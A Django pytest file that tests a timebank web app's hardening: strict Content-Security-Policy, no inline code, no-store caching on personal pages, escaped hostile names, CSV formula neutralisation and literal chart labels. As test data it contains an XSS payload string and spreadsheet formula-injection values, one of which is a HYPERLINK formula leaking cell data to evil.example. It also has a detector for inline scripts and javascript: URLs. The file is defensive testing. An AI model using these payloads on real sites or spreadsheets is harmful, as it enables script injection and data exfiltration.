"""Page hardening (issue 12): what a browser, an attacker or a coordinator's
spreadsheet would notice.

- Every page carries a strict Content-Security-Policy, and no page's HTML has
  inline script, inline event handlers, javascript: URLs or style attributes
  (so the policy never has to allow them).
- Permissions-Policy and Cross-Origin-Opener-Policy are sent.
- Pages for signed-in people (and API answers to a token) are never stored by
  a shared computer's browser or a proxy; public pages stay cacheable.
- Report CSVs cannot smuggle spreadsheet formulas.
- Report charts treat every label as plain text ($, \\frac, _ and ^ included).
"""

import csv
import datetime
import io
from html.parser import HTMLParser

import pytest
from django.test import Client
from django.utils import timezone
from django_otp import DEVICE_ID_SESSION_KEY
from django_otp.plugins.otp_totp.models import TOTPDevice

from assets.models import Organisation, OrganisationMembership, OrganisationType
from referrals.models import Consent, Referral
from tests.assets.factories import service_at
from tests.brokering.factories import exchange, member_at, request_for
from tests.factories import ListingFactory, UserFactory
from timebank import ledger
from timebank.models import Category, MemberStatus, Role, TransferKind

pytestmark = pytest.mark.django_db

HOSTILE = '<img src=x onerror="window.__xss=1">'
TODAY = timezone.localdate()
PERIOD = f"start={TODAY - datetime.timedelta(days=30)}&end={TODAY}"

EXPECTED_POLICY = {
    "default-src": "'self'",
    "script-src": "'self'",
    "style-src": "'self'",
    "img-src": "'self' data: https://tile.openstreetmap.org",
    "object-src": "'none'",
    "base-uri": "'self'",
    "form-action": "'self'",
    "frame-ancestors": "'none'",
}


def policy_of(response) -> dict[str, str]:
    header = response.headers.get("Content-Security-Policy", "")
    directives = [part.strip().split(None, 1) for part in header.split(";") if part.strip()]
    return {parts[0]: parts[1] if len(parts) > 1 else "" for parts in directives}


class InlineCodeFinder(HTMLParser):
    """Everything in a page that a strict policy (no 'unsafe-inline') would block."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_inline_script = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        # A JSON data block (json_script) is never run, so the policy allows it.
        if tag == "script" and "src" not in attributes and attributes.get("type") != "application/json":
            self.problems.append(f"inline <script> {attrs}")
        if tag == "style":
            self.problems.append("inline <style> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            if name == "style":
                self.problems.append(f"style attribute on <{tag}>: {value}")
            if name in {"href", "src", "action", "formaction", "xlink:href"} and (
                value or ""
            ).strip().lower().startswith("javascript:"):
                self.problems.append(f"javascript: URL in {name} on <{tag}>")

    handle_startendtag = handle_starttag


def inline_code_in(html: str) -> list[str]:
    finder = InlineCodeFinder()
    finder.feed(html)
    return finder.problems


# --- A cast and a little of everything, so every page has something to show -----------------


def staff(organisation, username: str, role: str):
    user = UserFactory(username=username, roles=[role])
    OrganisationMembership.objects.create(
        user=user, organisation=organisation, role="link-worker" if role == Role.LINK_WORKER else "organiser"
    )
    return user


def posted_exchange(provider, receiver, minutes: int, *, category: Category, **listing_fields):
    """An exchange of `minutes` in `category`, posted to the ledger."""
    listing = ListingFactory(member=provider, kind="offer", category=category, **listing_fields)
    made = exchange(provider, receiver, status="posted", listing=listing)
    ledger.transfer_post(
        timebank=provider.timebank,
        kind=TransferKind.EXCHANGE,
        legs=[
            ledger.Leg(ledger.account_for_member(member=provider), minutes),
            ledger.Leg(ledger.account_for_member(member=receiver), -minutes),
        ],
        exchange=made,
    )
    return made


def _with_consent(made: list[Referral]) -> list[Referral]:
    """Reports count only referrals whose consent stands, and what happened to one
    they did not receive only when the person agreed to share it (referrals/consent.py)."""
    Consent.objects.bulk_create(
        Consent(
            referral=referral,
            given=True,
            scopes=["share-with-service", "share-back-with-referrer"],
            method="verbal",
            recorded_by="Sam",
            recorded_at=timezone.now(),
        )
        for referral in made
    )
    return made


def referrals(count: int, **fields) -> list[Referral]:
    """`count` referrals sent three days ago: referral reports show no count below 5."""
    return _with_consent(
        [
            Referral.objects.create(
                given_name="A",
                family_name="Person",
                postcode="RG1 7QE",
                preferred_contact="phone",
                status="in-progress",
                requested_at=timezone.now() - datetime.timedelta(days=3),
                **fields,
            )
            for _ in range(count)
        ]
    )


@pytest.fixture
def world(timebank):
    """Hostile text in every name a person outside the team can set: a service,
    its organisation, a category, a member."""
    surgery = Organisation.objects.create(name="Oxford Road Surgery", organisation_type=OrganisationType.GP_PRACTICE)
    group = Organisation.objects.create(name=f"Group {HOSTILE}", organisation_type=OrganisationType.VOLUNTARY)
    service = service_at(
        51.4516,
        -0.9698,
        categories=["green-and-outdoor"],
        organisation=group,
        name=f"Garden {HOSTILE}",
        description=f"Tea and {HOSTILE} a chat",
        accepts_referrals=True,
    )
    ann = member_at("Ann")
    ben = member_at("Ben")
    applicant = member_at("Ada", status=MemberStatus.APPLIED)
    hostile_category = Category.objects.create(timebank=timebank, slug="hostile", name=f"Odd {HOSTILE}")
    request = request_for(ben, where="public")
    made = posted_exchange(ann, ben, 90, category=hostile_category, title=f"Help {HOSTILE}")
    (referral,) = referrals(1, referring_organisation=surgery, target_service=service)
    return {
        "service": service,
        "ann": ann,
        "ben": ben,
        "applicant": applicant,
        "request": request,
        "exchange": made,
        "referral": referral,
        "link_worker": staff(surgery, "sam", Role.LINK_WORKER),
        "organiser": staff(group, "olu", Role.GROUP_ORGANISER),
        "coordinator": UserFactory(username="cora", roles=[Role.COORDINATOR]),
        "admin": UserFactory(username="root", is_staff=True, is_superuser=True),
    }


def pages_by_role(world, timebank) -> dict[str, tuple[object | None, list[str]]]:
    ann, service, referral = world["ann"], world["service"], world["referral"]
    reports = [
        f"/coordinator/reports/{slug}/?timebank={timebank.pk}&{PERIOD}"
        for slug in ["overview", "categories", "monthly", "referrals-target", "ons4"]
    ]
    return {
        "visitor": (
            None,
            [
                "/",
                "/join/",
                "/login/",
                "/password-reset/",
                "/logged-out/",
                f"/t/{timebank.slug}/",
                "/directory/",
                "/directory/?near=RG1&radius=3",
                f"/directory/services/{service.pk}/",
                f"/directory/services/{service.pk}/report/",
            ],
        ),
        "member": (
            ann.user,
            [
                "/",
                "/hours/",
                "/hours/donate/",
                "/give/",
                "/profile/",
                "/offers-and-requests/",
                f"/listings/{world['exchange'].listing.public_id}/",
                "/my/listings/",
                "/my/listings/new/",
                "/exchanges/",
                f"/exchanges/{world['exchange'].public_id}/",
                "/my/matches/",
                f"/directory/services/{service.pk}/claim/",
            ],
        ),
        "coordinator": (
            world["coordinator"],
            [
                "/coordinator/",
                "/coordinator/applications/",
                "/coordinator/members/",
                "/coordinator/members/add/",
                f"/coordinator/members/{ann.public_id}/",
                f"/coordinator/members/{ann.public_id}/edit/",
                f"/coordinator/members/{ann.public_id}/give/",
                f"/coordinator/members/{ann.public_id}/erase/",
                "/coordinator/pot/",
                "/coordinator/categories/",
                "/coordinator/record-exchange/",
                "/coordinator/disputes/",
                "/coordinator/workbench/",
                f"/coordinator/workbench/requests/{world['request'].public_id}/",
                "/coordinator/safeguarding/",
                f"/coordinator/safeguarding/members/{ann.public_id}/",
                "/coordinator/safeguarding/incidents/",
                "/coordinator/safeguarding/categories/",
                "/coordinator/reports/",
                *reports,
                f"/coordinator/reports/funder-summary/?timebank={timebank.pk}&{PERIOD}",
                "/coordinator/directory/reports/",
                "/coordinator/directory/claims/",
                "/directory/?near=RG1&radius=3",
                "/account/two-step/",
                "/account/two-step/set-up/",
            ],
        ),
        "link worker": (
            world["link_worker"],
            ["/referrals/", "/referrals/new/?near=RG1", f"/referrals/{referral.pk}/"],
        ),
        "organiser": (world["organiser"], ["/referrals/", "/referrals/in/", f"/directory/services/{service.pk}/edit/"]),
        "administrator": (
            world["admin"],
            [
                "/network/timebanks/",
                "/network/timebanks/new/",
                "/admin/",
                "/admin/timebank/member/",
                f"/admin/timebank/member/{ann.pk}/change/",
                "/admin/assets/service/",
                f"/admin/assets/service/{service.pk}/change/",
                "/admin/assets/service/add/",
                "/admin/timebank/category/",
            ],
        ),
    }


ROLES = ["visitor", "member", "coordinator", "link worker", "organiser", "administrator"]


def client_for(user) -> Client:
    """A browser signed in as `user`; staff also passed the second step, as the admin needs."""
    client = Client()
    if user is None:
        return client
    client.force_login(user)
    if user.is_staff:
        device = TOTPDevice.objects.create(user=user, name="Authenticator app", confirmed=True)
        session = client.session
        session[DEVICE_ID_SESSION_KEY] = device.persistent_id
        session.save()
    return client


@pytest.mark.parametrize("role", ROLES)
def test_every_page_sends_the_strict_policy_and_has_no_inline_code(world, timebank, role):
    user, urls = pages_by_role(world, timebank)[role]
    client = client_for(user)
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert policy_of(response) == EXPECTED_POLICY, url
        assert inline_code_in(response.content.decode()) == [], url
        assert response["Permissions-Policy"] == "camera=(), microphone=(), geolocation=()", url
        assert response["Cross-Origin-Opener-Policy"] == "same-origin", url


def test_a_page_that_is_not_there_is_under_the_policy_too(client):
    response = client.get("/no-such-page/")
    assert response.status_code == 404
    assert policy_of(response) == EXPECTED_POLICY
    assert inline_code_in(response.content.decode()) == []


def test_hostile_names_are_shown_as_text_in_the_directory_and_its_map_data(client, world):
    page = client.get("/directory/?near=RG1&radius=3").content.decode()
    assert "&lt;img src=x onerror=" in page
    assert "<img src=x" not in page
    # The map's data block escapes < so the name cannot close the script element.
    assert "\\u003Cimg src=x onerror" in page


# --- Cache-Control on personal pages ---------------------------------------------------------


@pytest.mark.parametrize("role", [r for r in ROLES if r != "visitor"])
def test_pages_for_signed_in_people_are_never_stored(world, timebank, role):
    user, urls = pages_by_role(world, timebank)[role]
    client = client_for(user)
    for url in [*urls, "/", "/directory/"]:
        cache_control = client.get(url).headers.get("Cache-Control", "")
        assert {"no-store", "private"} <= {part.strip() for part in cache_control.split(",")}, url


def test_a_page_that_needs_a_login_is_not_stored_even_as_a_redirect(world, timebank, client):
    _, urls = pages_by_role(world, timebank)["coordinator"]
    needing_login = [url for url in urls if url.startswith("/coordinator/")]
    for url in [*needing_login, "/hours/", "/referrals/", "/admin/", "/admin/timebank/member/"]:
        response = client.get(url)
        assert response.status_code == 302 and "login" in response["Location"], url
        assert "no-store" in response["Cache-Control"], url


def test_public_pages_for_visitors_stay_cacheable(world, client):
    for url in ["/", "/directory/", "/directory/?near=RG1&radius=3", f"/directory/services/{world['service'].pk}/"]:
        response = client.get(url)
        assert response.status_code == 200
        assert "no-store" not in response.headers.get("Cache-Control", ""), url
    feed = client.get("/openreferral/services/")
    assert "no-store" not in feed.headers.get("Cache-Control", "")


def test_a_stricter_header_set_by_a_view_is_kept(world, client):
    # Django's login page says no-cache, must-revalidate and max-age=0 as well.
    client.force_login(world["ann"].user)
    response = client.get("/login/")
    parts = {part.strip() for part in response["Cache-Control"].split(",")}
    assert {"no-store", "no-cache", "must-revalidate", "max-age=0"} <= parts


def test_api_answers_to_a_token_are_never_stored(db):
    from api.clients import api_client_create
    from tests.api.conftest import token_for

    _, client_id, secret = api_client_create(
        organisation_name="Oxford Road Surgery", scopes=["directory:read"], organisation_type="gp-practice"
    )
    token = token_for(client_id, secret)
    response = Client().get("/api/v1/services/?near=RG1", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert response.status_code == 200
    assert {"no-store", "private"} <= {part.strip() for part in response["Cache-Control"].split(",")}
    refused = Client().get("/api/v1/services/?near=RG1", HTTP_AUTHORIZATION="Bearer not-a-token")
    assert refused.status_code == 401
    assert "no-store" in refused["Cache-Control"]


# --- CSV formula injection -------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTabbed",
    "\rReturned",
]


def test_report_csv_cells_cannot_start_a_formula(timebank, client, coordinator):
    ann, ben = member_at("Ann"), member_at("Ben")
    for n, name in enumerate(FORMULAS):
        made = Category.objects.create(timebank=timebank, slug=f"formula-{n}", name=name)
        posted_exchange(ann, ben, 60, category=made)
    client.force_login(coordinator)
    download = client.get(f"/coordinator/reports/categories/csv/?timebank={timebank.pk}&{PERIOD}")
    assert download.status_code == 200
    rows = list(csv.reader(io.StringIO(download.content.decode(), newline="")))
    names = sorted(row[0] for row in rows[1:])
    assert names == sorted("'" + name for name in FORMULAS)
    # The figures the report computes are still plain numbers.
    assert all(row[1:] == ["1", "1"] for row in rows[1:])


def test_report_csv_keeps_negative_figures_as_numbers(timebank, client, coordinator):
    from referrals.models import Outcome

    surgery = Organisation.objects.create(name="Oxford Road Surgery", organisation_type=OrganisationType.GP_PRACTICE)
    scores = {"life_satisfaction": 6, "worthwhile": 6, "happiness": 6, "anxiety": 8}
    for referral in referrals(5, referring_organisation=surgery, target_timebank=timebank):
        Outcome.objects.create(referral=referral, instrument="ons4", stage="baseline", answers=scores)
        Outcome.objects.create(
            referral=referral, instrument="ons4", stage="follow-up", answers={**scores, "anxiety": 5}
        )
    client.force_login(coordinator)
    download = client.get(f"/coordinator/reports/ons4/csv/?timebank={timebank.pk}&{PERIOD}")
    rows = list(csv.reader(io.StringIO(download.content.decode(), newline="")))
    assert rows[-1][1:] == ["5", "8.0", "5.0", "-3.0"]  # anxiety fell by 3 points


def test_the_one_csv_writer_neutralises_text_but_not_numbers():
    from core.csvsafe import spreadsheet_safe

    assert [spreadsheet_safe(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    full_width_minus = "\uff0d1+1"  # some spreadsheets read it as a minus sign
    assert spreadsheet_safe(full_width_minus) == "'" + full_width_minus
    assert spreadsheet_safe("Gardening") == "Gardening"
    assert spreadsheet_safe(-90) == -90
    assert spreadsheet_safe("-90") == "-90"
    assert spreadsheet_safe("+1.5") == "+1.5"


# --- Charts: labels are plain text ------------------------------------------------------------

MATHS = ["Costs $5 and $10", "$$", r"\frac{a}{b}", r"$\frac{1}{2}$", "snake_case", "x^2", "$x_1^2$", "$\\undefined$"]


def test_report_pages_show_chart_labels_with_maths_characters_literally(timebank, client, coordinator):
    timebank.name = "Caversham $pounds$"
    timebank.save()
    ann, ben = member_at("Ann"), member_at("Ben")
    for n, name in enumerate(MATHS):
        made = Category.objects.create(timebank=timebank, slug=f"maths-{n}", name=name)
        posted_exchange(ann, ben, 30, category=made)
    surgery = Organisation.objects.create(name="GP $£$ practice", organisation_type=OrganisationType.GP_PRACTICE)
    service = service_at(51.45, -0.97, name=r"Walk_and $\alpha$ talk")
    referrals(5, referring_organisation=surgery, target_service=service)
    referrals(5, referring_organisation=surgery, target_timebank=timebank)
    client.force_login(coordinator)
    categories = client.get(f"/coordinator/reports/categories/?timebank={timebank.pk}&{PERIOD}")
    assert categories.status_code == 200
    text = categories.content.decode()
    svg = text[text.index("<svg") : text.index("</svg>")]
    for name in MATHS:
        # matplotlib draws text as glyph outlines and names each string in a comment.
        assert f"<!-- {name} -->" in svg.replace("&lt;", "<"), name
    for slug, label in [
        ("referrals-source", "GP $£$ practice"),
        ("referrals-target", r"Walk_and $\alpha$ talk"),
        ("referrals-target", "Timebank: Caversham $pounds$"),
    ]:
        page = client.get(f"/coordinator/reports/{slug}/?timebank={timebank.pk}&{PERIOD}")
        assert page.status_code == 200
        assert f"<!-- {label} -->" in page.content.decode()
    summary = client.get(f"/coordinator/reports/funder-summary/?timebank={timebank.pk}&{PERIOD}")
    assert summary.status_code == 200
    assert "Caversham $pounds$" in summary.content.decode()
